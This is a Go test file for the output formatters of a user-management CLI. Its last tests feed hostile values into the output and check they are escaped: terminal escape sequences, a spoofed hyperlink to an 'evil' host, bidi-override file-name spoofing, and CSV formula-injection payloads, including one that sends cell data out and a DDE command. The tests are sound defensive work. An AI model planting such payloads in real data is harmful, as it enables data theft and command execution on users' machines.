package output

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/userctl/userctl/internal/errkind"
	"github.com/userctl/userctl/internal/userapi"
)

func testUsers() []userapi.User {
	created := time.Date(2024, 1, 15, 10, 30, 0, 0, time.UTC)
	return []userapi.User{
		{ID: "usr_1", Username: "ada", Email: "ada@example.com", Name: "Ada Lovelace", Roles: []string{"admin", "dev"},
			Status: userapi.StatusActive, CreatedAt: &created, Extra: map[string]any{"slug": "ada-l", "verified": true}},
		{ID: "usr_2", Email: "bob@example.com", Status: userapi.StatusDisabled},
	}
}

// render writes items through a fresh writer and returns stdout.
func render(t *testing.T, opts Options, schema Schema, list bool, items ...any) string {
	t.Helper()
	var buf bytes.Buffer
	w, err := NewWriter(&buf, opts, schema, list)
	if err != nil {
		t.Fatalf("NewWriter(%+v): %v", opts, err)
	}
	for _, it := range items {
		if err := w.Write(it); err != nil {
			t.Fatalf("Write: %v", err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	return buf.String()
}

func userItems() []any {
	var out []any
	for _, u := range testUsers() {
		out = append(out, u)
	}
	return out
}

func assertEqual(t *testing.T, got, want string) {
	t.Helper()
	if got != want {
		t.Errorf("output mismatch\n--- got ---\n%s\n--- want ---\n%s", got, want)
	}
}

// assertUsage checks err is a one-line *errkind.Error of kind errkind.Usage whose
// message contains want.
func assertUsage(t *testing.T, err error, want string) {
	t.Helper()
	var ue *errkind.Error
	if !errors.As(err, &ue) || ue.Kind != errkind.Usage {
		t.Fatalf("error = %v (%T), want a usage *errkind.Error", err, err)
	}
	if errkind.ExitCode(err) != 2 {
		t.Errorf("exit code = %d, want 2", errkind.ExitCode(err))
	}
	if !strings.Contains(ue.Message, want) {
		t.Errorf("message = %q, want it to contain %q", ue.Message, want)
	}
	if strings.Contains(ue.Message, "\n") {
		t.Errorf("message %q is not one line", ue.Message)
	}
}

func TestJSONList(t *testing.T) {
	got := render(t, Options{Format: "json"}, UserSchema(), true, userItems()...)
	want := `[
  {
    "id": "usr_1",
    "username": "ada",
    "email": "ada@example.com",
    "name": "Ada Lovelace",
    "roles": [
      "admin",
      "dev"
    ],
    "status": "active",
    "created_at": "2024-01-15T10:30:00Z",
    "updated_at": null,
    "extra": {
      "slug": "ada-l",
      "verified": true
    }
  },
  {
    "id": "usr_2",
    "username": null,
    "email": "bob@example.com",
    "name": null,
    "roles": [],
    "status": "disabled",
    "created_at": null,
    "updated_at": null,
    "extra": {}
  }
]
`
	assertEqual(t, got, want)
	var back []userapi.User
	if err := json.Unmarshal([]byte(got), &back); err != nil || len(back) != 2 {
		t.Fatalf("output is not a JSON array of users: %v", err)
	}
}

func TestJSONEmptyListIsArray(t *testing.T) {
	assertEqual(t, render(t, Options{Format: "json"}, UserSchema(), true), "[]\n")
}

func TestJSONSingleObject(t *testing.T) {
	got := render(t, Options{Format: "json", Fields: []string{"email", "id"}}, UserSchema(), false, testUsers()[0])
	assertEqual(t, got, "{\n  \"email\": \"ada@example.com\",\n  \"id\": \"usr_1\"\n}\n")
}

func TestSingleObjectWriterRejectsSecondItem(t *testing.T) {
	w, err := NewWriter(&bytes.Buffer{}, Options{Format: "json"}, UserSchema(), false)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(testUsers()[0]); err != nil {
		t.Fatal(err)
	}
	if err := w.Write(testUsers()[1]); err == nil {
		t.Fatal("second Write on a single-object writer succeeded")
	}
}

func TestJSONL(t *testing.T) {
	got := render(t, Options{Format: "jsonl"}, UserSchema(), true, userItems()...)
	want := `{"id":"usr_1","username":"ada","email":"ada@example.com","name":"Ada Lovelace","roles":["admin","dev"],"status":"active","created_at":"2024-01-15T10:30:00Z","updated_at":null,"extra":{"slug":"ada-l","verified":true}}
{"id":"usr_2","username":null,"email":"bob@example.com","name":null,"roles":[],"status":"disabled","created_at":null,"updated_at":null,"extra":{}}
`
	assertEqual(t, got, want)
}

// The fast user encoder must produce exactly the bytes of the contract's
// MarshalJSON.
func TestUserFastPathMatchesMarshalJSON(t *testing.T) {
	users := append(testUsers(),
		userapi.User{ID: "u<3>&", Name: "Zoë \"Z\" \\ \n\t\u2028", Roles: []string{"a,b", "<x>"},
			Extra: map[string]any{"n": 1.5, "list": []any{"x", nil}, "nested": map[string]any{"k": "v"}}},
		userapi.User{},
		userapi.User{CreatedAt: ptr(time.Date(2020, 2, 3, 4, 5, 6, 789, time.FixedZone("X", -5*3600))), UpdatedAt: &time.Time{}},
	)
	for _, u := range users {
		want, err := u.MarshalJSON()
		if err != nil {
			t.Fatal(err)
		}
		got, err := (&encoder{}).appendJSON(nil, u)
		if err != nil {
			t.Fatal(err)
		}
		if string(got) != string(want) {
			t.Errorf("fast path differs\n got: %s\nwant: %s", got, want)
		}
		gotPtr, _ := (&encoder{}).appendJSON(nil, &u)
		if string(gotPtr) != string(want) {
			t.Errorf("*User differs\n got: %s\nwant: %s", gotPtr, want)
		}
	}
}

// chanWriter reports every write on a channel.
type chanWriter struct{ writes chan string }

func (c chanWriter) Write(p []byte) (int, error) {
	c.writes <- string(p)
	return len(p), nil
}

// JSON Lines stream: a line reaches the output on the flusher's next tick,
// long before Close.
func TestJSONLStreamsBeforeClose(t *testing.T) {
	out := chanWriter{writes: make(chan string, 10)}
	ticks := make(chan time.Time)
	flushed := make(chan struct{})
	stopped := make(chan struct{})
	ticker := func() (<-chan time.Time, func()) { return ticks, func() { close(stopped) } }
	w, err := newWriter(out, Options{Format: "jsonl", Fields: []string{"id"}}, UserSchema(), true, ticker)
	if err != nil {
		t.Fatal(err)
	}
	w.(*jsonlWriter).s.flushed = flushed
	for i, u := range testUsers() {
		if err := w.Write(u); err != nil {
			t.Fatal(err)
		}
		ticks <- time.Time{}
		<-flushed
		select {
		case got := <-out.writes:
			if want := `{"id":"` + u.ID + "\"}\n"; got != want {
				t.Errorf("item %d: wrote %q, want %q", i, got, want)
			}
		default:
			t.Fatalf("item %d not written after a flush tick", i)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	<-stopped // the flusher released its ticker
	if len(out.writes) != 0 {
		t.Errorf("unexpected extra write %q", <-out.writes)
	}
}

func TestFieldsOrderAndExtra(t *testing.T) {
	opts := Options{Format: "jsonl", Fields: []string{"status", "extra.slug", "id", "extra.missing", "roles"}}
	got := render(t, opts, UserSchema(), true, userItems()...)
	want := `{"status":"active","extra.slug":"ada-l","id":"usr_1","extra.missing":null,"roles":["admin","dev"]}
{"status":"disabled","extra.slug":null,"id":"usr_2","extra.missing":null,"roles":[]}
`
	assertEqual(t, got, want)
}

func TestUnknownFieldIsUsageError(t *testing.T) {
	_, err := NewWriter(&bytes.Buffer{}, Options{Fields: []string{"id", "foo"}}, UserSchema(), true)
	assertUsage(t, err, `unknown field "foo" (valid: id, username, email, name, roles, status, created_at, updated_at, extra, extra.KEY)`)

	_, err = NewWriter(&bytes.Buffer{}, Options{Fields: []string{"id", "id"}}, UserSchema(), true)
	assertUsage(t, err, `duplicate field "id"`)

	_, err = NewWriter(&bytes.Buffer{}, Options{Fields: []string{"extra.x"}}, RoleSchema(), true)
	assertUsage(t, err, `unknown field "extra.x" (valid: name, description)`)
}

func TestUnknownFormatIsUsageError(t *testing.T) {
	_, err := NewWriter(&bytes.Buffer{}, Options{Format: "xml"}, UserSchema(), true)
	assertUsage(t, err, `unknown output format "xml" (valid: table, wide, json, jsonl, yaml, csv)`)
}

func TestValidFields(t *testing.T) {
	got := strings.Join(ValidFields(UserSchema()), ",")
	if want := "id,username,email,name,roles,status,created_at,updated_at,extra,extra."; got != want {
		t.Errorf("ValidFields = %s, want %s", got, want)
	}
}

func TestYAMLList(t *testing.T) {
	got := render(t, Options{Format: "yaml"}, UserSchema(), true, userItems()...)
	want := `- id: usr_1
  username: ada
  email: ada@example.com
  name: Ada Lovelace
  roles:
    - admin
    - dev
  status: active
  created_at: "2024-01-15T10:30:00Z"
  updated_at: null
  extra:
    slug: ada-l
    verified: true
- id: usr_2
  username: null
  email: bob@example.com
  name: null
  roles: []
  status: disabled
  created_at: null
  updated_at: null
  extra: {}
`
	assertEqual(t, got, want)
	assertEqual(t, render(t, Options{Format: "yaml"}, UserSchema(), true), "[]\n")
}

func TestYAMLSingleKeepsFieldOrder(t *testing.T) {
	u := testUsers()[0]
	u.Name = "true" // must stay a string
	got := render(t, Options{Format: "yaml", Fields: []string{"name", "email", "extra.verified"}}, UserSchema(), false, u)
	assertEqual(t, got, "name: \"true\"\nemail: ada@example.com\nextra.verified: true\n")
}

func TestCSV(t *testing.T) {
	users := testUsers()
	users[0].Name = `Lovelace, "Ada"`
	users[1].Name = "two\nlines"
	opts := Options{Format: "csv", Fields: []string{"id", "name", "roles", "updated_at", "extra"}}
	got := render(t, opts, UserSchema(), true, users[0], users[1])
	want := "id,name,roles,updated_at,extra\n" +
		`usr_1,"Lovelace, ""Ada""",admin;dev,,"{""slug"":""ada-l"",""verified"":true}"` + "\n" +
		"usr_2,\"two\nlines\",,,\n"
	assertEqual(t, got, want)

	opts.NoHeader = true
	got = render(t, opts, UserSchema(), true, users[1])
	assertEqual(t, got, "usr_2,\"two\nlines\",,,\n")
}

func TestCSVDefaultColumnsAndEmpty(t *testing.T) {
	got := render(t, Options{Format: "csv"}, UserSchema(), true, testUsers()[1])
	assertEqual(t, got, "id,username,email,name,roles,status,created_at,updated_at\nusr_2,,bob@example.com,,,disabled,,\n")
	// An empty list still has its header row.
	assertEqual(t, render(t, Options{Format: "csv", Fields: []string{"id"}}, UserSchema(), true), "id\n")
}

func TestTable(t *testing.T) {
	got := render(t, Options{}, UserSchema(), true, userItems()...)
	want := "" +
		"ID      USERNAME   EMAIL             NAME           ROLES        STATUS\n" +
		"usr_1   ada        ada@example.com   Ada Lovelace   admin, dev   active\n" +
		"usr_2   -          bob@example.com   -              -            disabled\n"
	assertEqual(t, got, want)
}

func TestTableWideAndNoHeader(t *testing.T) {
	got := render(t, Options{Format: "wide", NoHeader: true}, UserSchema(), true, userItems()...)
	want := "" +
		"usr_1   ada   ada@example.com   Ada Lovelace   admin, dev   active     2024-01-15T10:30:00Z   -\n" +
		"usr_2   -     bob@example.com   -              -            disabled   -                      -\n"
	assertEqual(t, got, want)
}

func TestTableFieldsHeaders(t *testing.T) {
	got := render(t, Options{Fields: []string{"email", "extra.slug", "created_at"}}, UserSchema(), true, testUsers()[0])
	assertEqual(t, got, "EMAIL             EXTRA.SLUG   CREATED\nada@example.com   ada-l        2024-01-15T10:30:00Z\n")
}

func TestTableNoTruncationWithoutWidth(t *testing.T) {
	u := testUsers()[0]
	u.Name = strings.Repeat("long name ", 30)
	got := render(t, Options{Width: 0}, UserSchema(), true, u)
	if !strings.Contains(got, strings.TrimSpace(u.Name)) || strings.Contains(got, "…") {
		t.Errorf("Width 0 truncated the table:\n%s", got)
	}
}

func TestTableFitsWidth(t *testing.T) {
	u := testUsers()[0]
	u.Name = strings.Repeat("x", 100)
	got := render(t, Options{Width: 80}, UserSchema(), true, u)
	for _, line := range strings.Split(strings.TrimSuffix(got, "\n"), "\n") {
		if n := len([]rune(line)); n > 80 {
			t.Errorf("line is %d wide, want <= 80: %q", n, line)
		}
	}
	if !strings.Contains(got, "xxx…") {
		t.Errorf("widest column not truncated with an ellipsis:\n%s", got)
	}
	if !strings.Contains(got, "ada@example.com") || !strings.Contains(got, "admin, dev") {
		t.Errorf("narrow columns were truncated:\n%s", got)
	}
}

func TestTableColorOnlyWhenAllowed(t *testing.T) {
	plain := render(t, Options{}, UserSchema(), true, userItems()...)
	if strings.Contains(plain, "\x1b[") {
		t.Errorf("colour without Color:\n%q", plain)
	}
	colored := render(t, Options{Color: true}, UserSchema(), true, userItems()...)
	if !strings.Contains(colored, "\x1b[1mID") || !strings.Contains(colored, "\x1b[32mactive") {
		t.Errorf("Color did not colour headers and status:\n%q", colored)
	}
}

func TestTableSanitizesControlCharacters(t *testing.T) {
	u := testUsers()[1]
	u.Name = "evil\x1b]0;title\x07\nname"
	got := render(t, Options{Fields: []string{"name"}}, UserSchema(), true, u)
	if lines := strings.Split(got, "\n"); len(lines) != 3 || strings.ContainsAny(got, "\x1b\x07") {
		t.Errorf("control characters reached the terminal: %q", got)
	}
}

func TestTableEmptyList(t *testing.T) {
	assertEqual(t, render(t, Options{}, UserSchema(), true),
		"ID   USERNAME   EMAIL   NAME   ROLES   STATUS\n")
	assertEqual(t, render(t, Options{NoHeader: true}, UserSchema(), true), "")
}

func TestJQ(t *testing.T) {
	items := userItems()
	tests := []struct {
		name string
		opts Options
		list bool
		want string
	}{
		{"raw strings", Options{JQ: ".[].email"}, true, "ada@example.com\nbob@example.com\n"},
		{"filter", Options{JQ: `.[] | select(.status == "active") | .id`}, true, "usr_1\n"},
		{"compact values", Options{JQ: ".[0].roles"}, true, "[\"admin\",\"dev\"]\n"},
		{"length of list", Options{JQ: "length", Format: "table"}, true, "2\n"},
		{"object", Options{JQ: "{id, n: (.roles | length)}"}, false, "{\"id\":\"usr_1\",\"n\":2}\n"},
		{"with fields", Options{JQ: ".[] | keys", Fields: []string{"name", "id"}}, true, "[\"id\",\"name\"]\n[\"id\",\"name\"]\n"},
		{"jsonl per item", Options{JQ: ".id", Format: "jsonl"}, true, "usr_1\nusr_2\n"},
		{"null and numbers", Options{JQ: ".[1].name, .[0].extra.verified, 1.50"}, true, "null\ntrue\n1.5\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			its := items
			if !tt.list {
				its = items[:1]
			}
			assertEqual(t, render(t, tt.opts, UserSchema(), tt.list, its...), tt.want)
		})
	}
	assertEqual(t, render(t, Options{JQ: "length"}, UserSchema(), true), "0\n")
}

func TestJQErrors(t *testing.T) {
	_, err := NewWriter(&bytes.Buffer{}, Options{JQ: ".[] | "}, UserSchema(), true)
	assertUsage(t, err, "invalid --jq expression")
	_, err = NewWriter(&bytes.Buffer{}, Options{JQ: "nosuchfunc(1)"}, UserSchema(), true)
	assertUsage(t, err, "invalid --jq expression")
	_, err = NewWriter(&bytes.Buffer{}, Options{JQ: ".", Template: "x"}, UserSchema(), true)
	assertUsage(t, err, "cannot be used together")

	w, err := NewWriter(&bytes.Buffer{}, Options{JQ: ".[] | .roles.x"}, UserSchema(), true)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(testUsers()[0]); err != nil {
		t.Fatal(err)
	}
	assertUsage(t, w.Close(), "--jq:")
}

func TestTemplate(t *testing.T) {
	got := render(t, Options{Template: "{{.email}}"}, UserSchema(), true, userItems()...)
	assertEqual(t, got, "ada@example.com\nbob@example.com\n")

	tmpl := `{{.id}}: {{upper .username}} [{{join ", " .roles}}] {{.extra | json}} {{lower "X"}}` + "\n"
	got = render(t, Options{Template: tmpl}, UserSchema(), false, testUsers()[0])
	assertEqual(t, got, "usr_1: ADA [admin, dev] {\"slug\":\"ada-l\",\"verified\":true} x\n")

	got = render(t, Options{Template: "{{.email}} {{.id}}", Fields: []string{"email"}}, UserSchema(), true, testUsers()[1])
	assertEqual(t, got, "bob@example.com <no value>\n")
}

func TestTemplateErrors(t *testing.T) {
	_, err := NewWriter(&bytes.Buffer{}, Options{Template: "{{.email"}, UserSchema(), true)
	assertUsage(t, err, "invalid --template")

	w, err := NewWriter(&bytes.Buffer{}, Options{Template: "{{upper .roles}}"}, UserSchema(), true)
	if err != nil {
		t.Fatal(err)
	}
	assertUsage(t, w.Write(testUsers()[0]), "--template")
}

func TestOtherSchemas(t *testing.T) {
	count := 3
	results := []any{userapi.Result{ID: "usr_1", Action: "deleted", Message: "user usr_1 deleted"},
		&userapi.Result{ID: "usr_2", Action: "followed", Count: &count}}
	assertEqual(t, render(t, Options{Format: "wide"}, ResultSchema(), true, results...), ""+
		"ID      ACTION     MESSAGE              COUNT\n"+
		"usr_1   deleted    user usr_1 deleted   -\n"+
		"usr_2   followed   -                    3\n")
	assertEqual(t, render(t, Options{Format: "jsonl", Fields: []string{"count", "id"}}, ResultSchema(), true, results...),
		"{\"count\":null,\"id\":\"usr_1\"}\n{\"count\":3,\"id\":\"usr_2\"}\n")

	roles := []any{userapi.Role{Name: "admin", Description: "everything"}, userapi.Role{Name: "viewer"}}
	assertEqual(t, render(t, Options{Format: "csv"}, RoleSchema(), true, roles...), "name,description\nadmin,everything\nviewer,\n")

	since := time.Date(2023, 5, 1, 8, 0, 0, 0, time.FixedZone("CEST", 2*3600))
	followers := []any{userapi.Follower{ID: "f1", Name: "Fay", Since: &since}, userapi.Follower{ID: "f2"}}
	assertEqual(t, render(t, Options{}, FollowerSchema(), true, followers...), ""+
		"ID   NAME   SINCE\n"+
		"f1   Fay    2023-05-01T06:00:00Z\n"+
		"f2   -      -\n")

	sugg := userapi.Suggestion{ID: "s1", Slug: "ada-l", Name: "Ada", Email: "a@x"}
	assertEqual(t, render(t, Options{Format: "jsonl"}, SuggestionSchema(), true, sugg),
		"{\"id\":\"s1\",\"slug\":\"ada-l\",\"name\":\"Ada\",\"email\":\"a@x\"}\n")
}

func ptr[T any](v T) *T { return &v }

// hostileUser carries terminal escapes, bidi and zero-width characters in
// the fields a server controls.
func hostileUser() userapi.User {
	u := testUsers()[1]
	u.ID = "x@y.io\r\x1b[2K\x1b[1A"
	u.Name = "\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\ \u202eexe.txt\u200b"
	return u
}

// Tables escape every unsafe character, visibly, whatever the terminal.
func TestTableEscapesBidiAndZeroWidth(t *testing.T) {
	got := render(t, Options{Fields: []string{"id", "name"}}, UserSchema(), true, hostileUser())
	if strings.ContainsAny(got, "\x1b\r\u202e\u200b") {
		t.Errorf("unsafe characters in table: %q", got)
	}
	for _, want := range []string{`x@y.io\r\x1b[2K\x1b[1A`, `\u202eexe.txt\u200b`} {
		if !strings.Contains(got, want) {
			t.Errorf("table lacks %q: %q", want, got)
		}
	}
}

// csv, --jq and --template escape on a terminal and stay exact elsewhere;
// json escapes by its own rules and is never altered.
func TestTextFormatsOnTerminal(t *testing.T) {
	u := hostileUser()
	for _, opts := range []Options{
		{Format: "csv", Fields: []string{"id", "name"}},
		{JQ: ".[] | .id, .name"},
		{Template: "{{.id}} {{.name}}"},
	} {
		raw := render(t, opts, UserSchema(), true, u)
		if !strings.Contains(raw, u.ID) || !strings.Contains(raw, "\u202e") {
			t.Errorf("%+v off a terminal: not exact: %q", opts, raw)
		}
		opts.Terminal = true
		got := render(t, opts, UserSchema(), true, u)
		if strings.ContainsAny(got, "\x1b\r\u202e\u200b") || !strings.Contains(got, `x@y.io\r\x1b[2K\x1b[1A`) {
			t.Errorf("%+v on a terminal: %q", opts, got)
		}
	}
	got := render(t, Options{Format: "json", Terminal: true}, UserSchema(), false, u)
	var back userapi.User
	if err := json.Unmarshal([]byte(got), &back); err != nil || back.ID != u.ID || back.Name != u.Name {
		t.Errorf("json on a terminal is not exact: %q (%v)", got, err)
	}
}

// Cells a spreadsheet would run get a leading apostrophe; others stay.
func TestCSVNeutralisesFormulas(t *testing.T) {
	u := testUsers()[1]
	u.Name = `=HYPERLINK("http://evil/?"&A1,"x")`
	u.Username = "@SUM(A1:A2)"
	u.Email = "+cmd|' /C calc'!A0"
	u.Roles = []string{"-2+3", "b"}
	got := render(t, Options{Format: "csv", Fields: []string{"name", "username", "email", "roles", "status"}, NoHeader: true}, UserSchema(), true, u)
	want := `"'=HYPERLINK(""http://evil/?""&A1,""x"")",'@SUM(A1:A2),'+cmd|' /C calc'!A0,'-2+3;b,disabled` + "\n"
	assertEqual(t, got, want)
}
